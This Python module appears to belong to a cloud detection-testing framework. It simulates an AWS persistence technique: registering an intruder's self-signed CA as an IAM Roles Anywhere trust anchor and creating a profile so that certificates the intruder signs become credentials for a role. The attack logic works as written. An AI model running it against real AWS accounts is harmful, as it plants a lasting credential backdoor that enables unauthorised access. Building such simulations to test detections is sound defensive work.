"""Register the intruder's certificate authority as an IAM Roles Anywhere trust anchor, with a
profile for a role that trusts Roles Anywhere: certificates the intruder signs become AWS credentials."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.persistence._iam import delete_role

ROLE = "onprem-batch-runner"
TRUST = (
    '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"rolesanywhere.amazonaws.com"},'
    '"Action":["sts:AssumeRole","sts:TagSession","sts:SetSourceIdentity"]}]}'
)


@technique
class RolesAnywhereCreateTrustAnchor(Technique):
    title = "Create an IAM Roles Anywhere trust anchor"
    attack = ("T1484.002",)
    expects = ("rolesanywhere_trust_anchor_created",)
    synthetic = ("rolesanywhere:CreateTrustAnchor", "rolesanywhere:CreateProfile")
    description = (
        "Uploads a self-signed CA certificate as a Roles Anywhere trust anchor and creates a profile "
        "for an existing role that trusts the Roles Anywhere service."
    )

    def warmup(self, ctx: Ctx) -> Json:
        iam = client("iam", session=ctx.admin())
        arn = iam.create_role(RoleName=ROLE, AssumeRolePolicyDocument=TRUST)["Role"]["Arn"]
        return {"role": ROLE, "role_arn": arn}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        sess = ctx.attacker()
        pem = _ca_certificate()
        anchor = {"name": "corp-pki-root", "enabled": True,
                  "source": {"sourceType": "CERTIFICATE_BUNDLE", "sourceData": {"x509CertificateData": pem}}}  # fmt: skip
        made = {"trustAnchor": _made(ctx, "trust-anchor", anchor)}
        ctx.call(sess, "rolesanywhere", "CreateTrustAnchor", anchor, response=made)
        profile = {
            "name": "batch-workloads",
            "roleArns": [state["role_arn"]],
            "durationSeconds": 3600,
            "enabled": True,
        }
        ctx.call(
            sess,
            "rolesanywhere",
            "CreateProfile",
            profile,
            response={"profile": _made(ctx, "profile", profile)},
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        delete_role(ctx, state["role"])


def _made(ctx: Ctx, kind: str, params: Json) -> Json:
    """What Roles Anywhere answers for a created trust anchor or profile: the request plus ids and times."""
    rid = str(uuid.uuid4())
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f") + "000Z"
    key = "trustAnchor" if kind == "trust-anchor" else "profile"
    return {**params, f"{key}Id": rid, f"{key}Arn": f"arn:aws:rolesanywhere:{ctx.region}:{ctx.account_id}:{kind}/{rid}",
            "createdAt": now, "updatedAt": now}  # fmt: skip


def _ca_certificate() -> str:
    """A fresh self-signed CA certificate (PEM), as the intruder's own certificate authority."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Corp Internal Root CA")])
    now = datetime.now(UTC)
    cert = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now).not_valid_after(now + timedelta(days=3650))
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )  # fmt: skip
    return cert.public_bytes(serialization.Encoding.PEM).decode()
